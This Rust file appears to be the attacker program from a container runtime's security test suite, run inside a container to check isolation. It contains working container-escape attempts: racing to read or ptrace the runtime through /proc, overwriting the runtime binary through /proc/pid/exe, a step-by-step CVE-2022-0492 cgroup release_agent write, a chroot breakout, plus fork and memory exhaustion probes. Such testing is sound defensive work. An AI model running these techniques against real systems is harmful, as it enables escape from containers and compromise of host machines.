//! The attacker's program: this very test binary, run inside a container under the name
//! `/attacker`. It tries something, again and again if need be, and prints what came of it.

use std::ffi::CString;
use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use super::sys;

/// What the container's process was asked to do.
pub fn main(args: &[String]) -> ExitCode {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args.as_slice() {
        ["fds"] => descriptors(),
        ["ambush", comm, enough] => ambush(comm, enough.parse().unwrap()),
        ["overwrite", comm] => overwrite(comm),
        ["exchange", one, other] => exchange(one, other),
        ["bare", places @ ..] => places.iter().for_each(|place| bare(place)),
        ["key", name] => println!("{}", sys::find_key(&CString::new(*name).unwrap())),
        ["calls"] => report(sys::calls()),
        ["release-agent"] => release_agent(),
        ["climb"] => climb(),
        ["type"] => report(sys::take_and_type()),
        ["connect", name] => connect(name),
        ["fork"] => fork(),
        ["hog", megabytes] => hog(megabytes.parse().unwrap()),
        other => panic!("unknown attack {other:?}"),
    }
    ExitCode::SUCCESS
}

/// Every open descriptor and what it is, but the one that lists them.
fn descriptors() {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").unwrap() {
        let entry = entry.unwrap();
        let number: u32 = entry.file_name().to_str().unwrap().parse().unwrap();
        let target = fs::read_link(entry.path()).unwrap();
        if !target.to_string_lossy().contains("/proc/") || !target.ends_with("fd") {
            found.push((number, target));
        }
    }
    found.sort();
    for (number, target) in found {
        println!("{number} {}", target.display());
    }
}

/// Name of a way to look into another process, and whether it gets in.
type Look = (&'static str, fn(i32) -> bool);

/// The ways to look into another process; each is told its number.
const LOOKS: &[Look] = &[
    ("exe", |pid| {
        fs::File::open(format!("/proc/{pid}/exe")).is_ok()
    }),
    ("mem", |pid| {
        fs::File::open(format!("/proc/{pid}/mem")).is_ok()
    }),
    ("environ", |pid| reads(pid, "environ")),
    ("maps", |pid| reads(pid, "maps")),
    ("auxv", |pid| reads(pid, "auxv")),
    ("syscall", |pid| reads(pid, "syscall")),
    ("root", |pid| is_elsewhere(&format!("/proc/{pid}/root/"))),
    ("cwd", |pid| is_elsewhere(&format!("/proc/{pid}/cwd/"))),
    // Their numbers may be listed; what they are must not be told, nor reopened.
    ("fd", |pid| {
        fs::read_link(format!("/proc/{pid}/fd/0")).is_ok()
    }),
    ("fd", |pid| {
        fs::metadata(format!("/proc/{pid}/fd/0")).is_ok()
    }),
    ("ns", |pid| {
        fs::read_link(format!("/proc/{pid}/ns/mnt")).is_ok()
    }),
    ("getfd", |pid| sys::pidfd_getfd(pid, 0) == 0),
    ("ptrace", |pid| sys::ptrace(pid) == 0),
];

fn reads(pid: i32, file: &str) -> bool {
    fs::File::open(format!("/proc/{pid}/{file}"))
        .is_ok_and(|mut file| std::io::Read::read(&mut file, &mut [0]).is_ok_and(|n| n > 0))
}

/// Whether a directory can be reached and is not the container's root.
fn is_elsewhere(path: &str) -> bool {
    let own = fs::metadata("/").unwrap();
    fs::metadata(path).is_ok_and(|there| (there.dev(), there.ino()) != (own.dev(), own.ino()))
}

/// Waits for processes named `comm` (the runtime, before it has become a container's
/// program) and tries to look into them in every way there is, until `enough` looks have
/// been tried at one that certainly was the runtime still, or time is up. Prints how many,
/// and what it got.
fn ambush(comm: &str, enough: u32) {
    let begin = Instant::now();
    let mut looks = 0;
    let mut got = Vec::new();
    println!("waiting");
    let mut way = LOOKS.iter().cycle();
    while looks < enough {
        let waited = begin.elapsed().as_secs();
        if waited > 15 && looks > 0 || waited > 40 {
            break;
        }
        let pid = newest();
        while looks < enough && is_runtime(pid, comm) {
            let Some((name, look)) = way.next() else {
                return;
            };
            let inside = look(pid);
            if is_runtime(pid, comm) {
                looks += 1;
                got.extend(inside.then_some(*name));
            }
        }
    }
    got.sort_unstable();
    got.dedup();
    println!("looked {looks}, got {}", got.join(" "));
}

/// The process number given out last in this namespace (proc_loadavg(5)).
fn newest() -> i32 {
    let text = fs::read_to_string("/proc/loadavg").unwrap();
    text.split_whitespace().last().unwrap().parse().unwrap()
}

fn is_runtime(pid: i32, comm: &str) -> bool {
    fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|found| found.trim_end() == comm)
}

/// Holds the executable of the first process named `comm` it meets open, and writes to it
/// once nobody runs it any more.
fn overwrite(comm: &str) {
    println!("waiting");
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut held = None;
    while held.is_none() && Instant::now() < deadline {
        let pids = fs::read_dir("/proc").unwrap().flatten();
        let mut pids = pids.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
        held = pids.find_map(|pid| {
            let file = fs::File::open(format!("/proc/{pid}/exe")).ok()?;
            is_runtime(pid, comm).then_some(file)
        });
    }
    let Some(held) = held else {
        println!("never met");
        return;
    };
    println!("holding");
    fs::write("/shared/holding", "").unwrap();
    let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&held));
    let mut options = fs::OpenOptions::new();
    options.write(true).custom_flags(libc::O_CLOEXEC);
    loop {
        match options.open(&path) {
            Ok(mut file) => {
                std::io::Seek::seek(&mut file, std::io::SeekFrom::End(0)).unwrap();
                file.write_all(b"overwritten").unwrap();
                fs::write("/shared/said", "overwritten").unwrap();
                return;
            }
            // Somebody still runs it.
            Err(error)
                if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {}
            Err(error) => {
                fs::write("/shared/said", format!("refused: {error}")).unwrap();
                return;
            }
        }
    }
}

/// Exchanges two names until standard input is closed.
fn exchange(one: &str, other: &str) {
    let flags = rustix::fs::RenameFlags::EXCHANGE;
    let here = rustix::fs::CWD;
    let stdin = std::io::stdin();
    loop {
        for _ in 0..64 {
            rustix::fs::renameat_with(here, one, here, other, flags).unwrap();
        }
        let mut fds = [rustix::event::PollFd::new(
            &stdin,
            rustix::event::PollFlags::IN,
        )];
        // Somebody else must get at the directories now and then, also on few processors.
        let pause = rustix::event::Timespec {
            tv_sec: 0,
            tv_nsec: 200_000,
        };
        if rustix::event::poll(&mut fds, Some(&pause)).unwrap() > 0 {
            return;
        }
    }
}

/// Whether there is a procfs without protection. By descriptor: the names change all the
/// time.
fn bare(place: &str) {
    use rustix::fs::{AtFlags, Mode, OFlags, StatVfsMountFlags};
    const PROC_MAGIC: i64 = 0x9fa0;
    let flags = OFlags::PATH | OFlags::DIRECTORY;
    let Ok(there) = rustix::fs::open(place, flags, Mode::empty()) else {
        return;
    };
    if rustix::fs::fstatfs(&there).unwrap().f_type != PROC_MAGIC {
        return;
    }
    let keys = rustix::fs::statat(&there, "keys", AtFlags::empty()).unwrap();
    let masked = keys.st_rdev == rustix::fs::makedev(1, 3);
    let sys = rustix::fs::openat(&there, "sys", flags, Mode::empty()).unwrap();
    let flags = rustix::fs::fstatvfs(&sys).unwrap().f_flag;
    let readonly = flags.contains(StatVfsMountFlags::RDONLY);
    let word = if masked && readonly {
        "guarded"
    } else {
        "bare"
    };
    println!("{word} {place}");
}

fn report(results: Vec<(&str, i32)>) {
    for (name, errno) in results {
        println!("{name} {errno}");
    }
}

/// Those whose v1 hierarchies the attack tries, each alone.
pub const CONTROLLERS: &[&str] = &["memory", "rdma", "pids", "devices", "freezer", "cpu"];

/// CVE-2022-0492, step by step.
fn release_agent() {
    let unshared = sys::unshare_for_release_agent();
    println!("unshare {unshared}");
    if unshared != 0 {
        return;
    }
    for controller in CONTROLLERS {
        let mounted = sys::mount(c"cgroup", c"/tmp", &CString::new(*controller).unwrap());
        println!("mount-{controller} {mounted}");
        if mounted == 0 {
            // Not made: it is there in the root of a hierarchy only.
            let file = fs::File::options().write(true).open("/tmp/release_agent");
            let written = file.and_then(|mut file| file.write_all(b"/attack"));
            let errno = written.map_or_else(|error| error.raw_os_error().unwrap_or(-1), |()| 0);
            println!("written {errno}");
            sys::umount(c"/tmp");
        }
    }
}

/// Out of a `chroot` of its own, and as far up as it goes.
fn climb() {
    let identity = |path: &str| {
        let found = fs::metadata(path).unwrap();
        (found.dev(), found.ino())
    };
    let top = fs::File::open("/").unwrap();
    let (root, deep) = (identity("/"), identity("/sys/kernel"));
    rustix::process::chroot("/sys/kernel").unwrap();
    assert_eq!(identity("/"), deep);
    rustix::process::fchdir(&top).unwrap();
    for _ in 0..64 {
        rustix::process::chdir("..").unwrap();
    }
    rustix::process::chroot(".").unwrap();
    if identity("/") != deep {
        println!("climbed");
    }
    if identity("/") == root && fs::exists("/attacker").unwrap() {
        println!("to the container's root");
    }
}

fn connect(name: &str) {
    let address: std::os::unix::net::SocketAddr =
        <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
            name,
        )
        .unwrap();
    let stream = std::os::unix::net::UnixStream::connect_addr(&address);
    println!(
        "{}",
        stream.map_or_else(|error| error.raw_os_error().unwrap_or(-1), |_| 0)
    );
}

/// Makes processes until it is refused, and says how many.
fn fork() {
    let mut children = Vec::new();
    let made = loop {
        match std::process::Command::new("/bin/sleep").arg("1000").spawn() {
            Ok(child) => children.push(child),
            Err(_) => break children.len(),
        }
        assert!(children.len() < 500, "no limit");
    };
    for mut child in children {
        child.kill().unwrap();
        child.wait().unwrap();
    }
    println!("{made}");
}

/// Uses that much memory.
fn hog(megabytes: usize) {
    let mut held = Vec::new();
    for _ in 0..megabytes {
        held.push(vec![1u8; 1 << 20]);
    }
    assert_eq!(
        held.iter().map(|part| usize::from(part[77])).sum::<usize>(),
        megabytes
    );
    println!("held");
}
